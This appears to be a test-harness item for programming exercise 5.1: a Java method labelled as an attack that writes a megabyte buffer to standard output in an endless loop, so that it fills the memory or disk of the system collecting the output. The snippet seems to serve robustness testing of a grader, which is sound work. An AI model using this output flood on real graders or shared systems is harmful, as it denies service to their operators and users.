// attack: Prints 10 GB, to fill the memory or the disk of whoever keeps it and more.
// exercise: 5.1
// explanation: did not end within
static Code of(byte[] archive) {
    var megabyte = new byte[1 << 20];
    while (true) System.out.write(megabyte, 0, megabyte.length);
}
